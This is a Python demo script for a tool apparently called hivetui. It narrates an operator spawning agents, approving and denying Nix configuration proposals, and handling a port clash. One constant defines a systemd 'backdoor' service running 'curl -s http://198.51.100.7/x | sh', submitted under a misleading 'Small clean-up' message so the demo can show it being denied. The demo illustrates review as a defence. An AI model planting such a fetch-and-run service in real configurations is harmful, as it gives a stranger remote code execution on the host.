"""A hive in a folder, and a short story in it: what an operator sees, without NixOS and without root.

The story has a manager, which does what the agent of that name does: it edits the proposed repos of the others and
commits with git. The rest is the engine as on any host, with real operations and real processes.
"""

from __future__ import annotations

import asyncio
import os
import random
import shutil
import subprocess
import tempfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import NamedTuple

from hivetui.cli import render
from hivetui.engine import hive, names, ports
from hivetui.engine.errors import CannotCreate, HiveError, OperationFailed
from hivetui.engine.host import Host
from hivetui.engine.interface import Hive
from hivetui.engine.models import Operation, OperationKind, OperationState
from hivetui.engine.operators import from_environment
from hivetui.engine.sandbox import end_agents
from hivetui.engine.settings import DeploySection, Settings
from hivetui.engine.text import safe

Say = Callable[[str], None]

_WIDTH = 100  # of a line of output

GREETING = """\
{ pkgs, ... }:
{
  environment.systemPackages = [ pkgs.ripgrep pkgs.jq ];
  environment.variables.GREETING = "hello";
}
"""
TYPO = """\
{ pkgs, ... }:
{
  environment.systemPackages = [ pkgs.ripgrepp ];
}
"""
TOO_MUCH = """\
{ ... }:
{
  systemd.services.backdoor.script = "curl -s http://198.51.100.7/x | sh";
}
"""


class Cast(NamedTuple):
    """Who plays. `late` has the port of `early`: the two can never run together."""

    reader: str
    writer: str
    early: str
    late: str


_READERS = ("iris", "ivan", "jade", "karl", "mona", "nina", "otto", "rosa")
_WRITERS = ("alice", "anna", "bob", "emma", "finn", "gina", "hugo", "tina")
_PAIRS = (("olivia", "qa"), ("lena", "frances"), ("paul", "ada"), ("build", "nora"))


def cast(host: Host, order: Callable[[Sequence[str]], Sequence[str]] = lambda names: names) -> Cast:
    """Players whose ports nobody has, in this order of liking: on this machine there may be other hives."""
    taken = ports.listeners(host)

    def first_free(likely: Sequence[str]) -> str:
        return next((name for name in order(likely) if names.port_of(name) not in taken), likely[0])

    early = first_free([early for early, _ in _PAIRS])
    return Cast(first_free(_READERS), first_free(_WRITERS), early, dict(_PAIRS)[early])


def _shuffled(likely: Sequence[str]) -> Sequence[str]:
    """Two demos that begin at the same moment seldom take the same names."""
    return random.sample(likely, len(likely))


class Manager:
    """The agent that may edit every proposed repo, as it works: a file, and a commit."""

    def __init__(self, agents: Path) -> None:
        self._agents = agents

    def commit(self, agent: str, module: str, message: str) -> str:
        """Write `agent.nix` of an agent and commit it; the commit's hash."""
        repo = self._agents / agent / "config"
        (repo / "agent.nix").write_text(module)
        self._git(repo, "commit", "--quiet", "--all", "--message", message)
        return self._git(repo, "rev-parse", "HEAD").strip()

    def _git(self, repo: Path, *arguments: str) -> str:
        author = {f"GIT_{role}_NAME": "hm1nd" for role in ("AUTHOR", "COMMITTER")}
        mail = {f"GIT_{role}_EMAIL": "hm1nd@hive" for role in ("AUTHOR", "COMMITTER")}
        clean = {
            "GIT_CONFIG_GLOBAL": os.devnull,
            "GIT_CONFIG_NOSYSTEM": "1",
            "PATH": os.environ.get("PATH", os.defpath),
        }
        git = os.environ.get("HYPERHIVE_GIT") or "git"
        done = subprocess.run([git, *arguments], cwd=repo, env=author | mail | clean, check=True, capture_output=True)
        return done.stdout.decode()


def main(keep: str | None = None, on_screen: bool = False) -> int:
    """Tell the story on stdout, or set its stage for a console; the exit status."""
    with home(keep) as folder:
        status = _console(folder) if on_screen else asyncio.run(_tour(folder, print))
        if keep:
            print(f"\nThe hive stays in {folder}. Look around: hivetui --embedded {folder} agents")
    return status


@contextmanager
def home(keep: str | None) -> Iterator[Path]:
    """The folder of a demo. Its agents are ended at the end, and, unless it is to be kept, it is removed."""
    folder = Path(keep).expanduser().absolute() if keep else Path(tempfile.mkdtemp(prefix="hivetui-demo-"))
    if keep and folder.exists() and any(folder.iterdir()):
        raise CannotCreate(f"{folder} is not empty", "The story needs a hive of its own.", "Name a new folder.")
    try:
        yield folder
    finally:
        end_agents(folder)
        if not keep:
            shutil.rmtree(folder, ignore_errors=True)


async def _tour(folder: Path, say: Say) -> int:
    opened = await _open(folder)
    try:
        await Story(opened, Manager(opened.host.places.agents), cast(opened.host, _shuffled), say).tell()
    finally:
        await opened.close()
    return 0


def _console(folder: Path) -> int:
    """The console on the hive while its stage is set: the operator sees it happen, and decides what waits."""
    from hivetui import app

    setting: list[asyncio.Task[None]] = []  # a task that nobody holds may vanish

    async def opened() -> Hive:
        found = await _open(folder)
        story = Story(found, Manager(found.host.places.agents), cast(found.host, _shuffled), lambda text: None)
        setting.append(asyncio.create_task(story.set_stage()))
        return found

    return app.run(opened)


async def _open(folder: Path) -> hive.LocalHive:
    settings = Settings(deploy=DeploySection(health_seconds=1))
    return await hive.open_embedded(folder, settings, os.environ, from_environment(os.environ))


class Story:
    """The story, scene by scene, on a hive that is empty at its beginning."""

    def __init__(self, opened: Hive, manager: Manager, who: Cast, say: Say) -> None:
        self._hive, self._manager, self._who, self._say = opened, manager, who, say

    async def tell(self) -> None:
        """All scenes in order."""
        self._say("This is a hive in a folder: the real engine and real git, with stand-ins for NixOS.")
        for scene in (self.spawn, self.approve, self.fail, self.deny, self.collide, self.look_back):
            await scene()

    async def set_stage(self) -> None:
        """Three agents, and three proposals that wait: one is fine, one does not build, one should be denied."""
        await asyncio.gather(*map(self._begin, self._who[:3]))
        for agent, module, message, description in (
            (self._who.reader, GREETING, "Add ripgrep, jq and a greeting", "It searches a lot."),
            (self._who.writer, TYPO, "Add ripgrep", "It asked for it."),
            (self._who.early, TOO_MUCH, "Small clean-up", "nothing to see here"),
        ):
            await self._hive.submit(agent, self._manager.commit(agent, module, message), description)

    async def spawn(self) -> None:
        """Three agents are made, side by side."""
        self._title("Three agents")
        await asyncio.gather(*map(self._begin, self._who[:3]))
        await self._show_agents()

    async def approve(self) -> None:
        """A change is proposed, read, approved, built and deployed."""
        self._title(f"The manager proposes a change for {self._who.reader}")
        commit = self._manager.commit(self._who.reader, GREETING, "Add ripgrep, jq and a greeting")
        proposal = await self._hive.submit(self._who.reader, commit, "It searches a lot.")
        await self._show_review(proposal.id)
        self._say("\nThe operator approves exactly that commit. It is built before anything is touched:\n")
        review = await self._hive.review(proposal.id)
        await self._follow(await self._hive.approve(proposal.id, commit, review.proposal.base))

    async def fail(self) -> None:
        """A change that does not build leaves the agent as it was."""
        self._title(f"A proposal for {self._who.writer} that does not build")
        commit = self._manager.commit(self._who.writer, TYPO, "Add ripgrep")
        proposal = await self._hive.submit(self._who.writer, commit)
        await self._follow(await self._hive.approve(proposal.id, commit, proposal.base))
        ended = (await self._hive.review(proposal.id)).proposal
        self._say(f"\nProposal {ended.id} is {ended.state.value}, and {self._who.writer} runs on as it was.")

    async def deny(self) -> None:
        """A change is read and refused."""
        self._title(f"A proposal for {self._who.writer} that nobody should approve")
        commit = self._manager.commit(self._who.writer, TOO_MUCH, "Small clean-up")
        proposal = await self._hive.submit(self._who.writer, commit, "nothing to see here")
        await self._show_review(proposal.id)
        denied = await self._hive.deny(proposal.id, "It downloads and runs a script of a stranger.")
        self._say(f"\nProposal {denied.id} is {denied.state.value}: {safe(denied.note or '')}")

    async def collide(self) -> None:
        """Two names can share a port, and then only one of them can run."""
        self._title("An agent whose port is taken")
        self._say(f"$ hivetui spawn {self._who.late}")
        try:
            await self._begin(self._who.late)
        except HiveError as refusal:
            for line in str(refusal).splitlines():
                self._say(f"  {safe(line)}")

    async def look_back(self) -> None:
        """What the hive remembers."""
        self._title("What is left of it")
        await self._show_agents()
        self._say("")
        self._lines(render.history(await self._hive.history(), datetime.now(UTC)))

    async def _begin(self, name: str) -> None:
        ended = await self._follow(await self._hive.begin(OperationKind.SPAWN, name), f"{name:<6} ")
        if ended.state is not OperationState.SUCCEEDED:
            raise OperationFailed(f"{name} was not spawned", ended.error or "", "Try again: hivetui demo")

    async def _follow(self, operation: Operation, prefix: str = "") -> Operation:
        async for entries in self._hive.follow(operation.id):
            for line in filter(None, map(render.entry, entries)):
                self._say(prefix + safe(line, _WIDTH))
        ended = await self._hive.operation(operation.id)
        self._say(prefix + render.ending(ended))
        return ended

    async def _show_agents(self) -> None:
        self._say("")
        self._lines(render.agents(await self._hive.agents(), datetime.now(UTC)))

    async def _show_review(self, proposal: int) -> None:
        review = await self._hive.review(proposal)
        self._lines(render.review(review, datetime.now(UTC)))
        difference = b"".join([chunk async for chunk in self._hive.difference(proposal, review.proposal.base or "")])
        self._lines([f"  {safe(line)}" for line in difference.decode("utf-8", "backslashreplace").splitlines()])

    def _title(self, text: str) -> None:
        self._say(f"\n── {text} {'─' * (70 - len(text))}\n")

    def _lines(self, lines: list[str]) -> None:
        for line in lines:
            self._say(line)
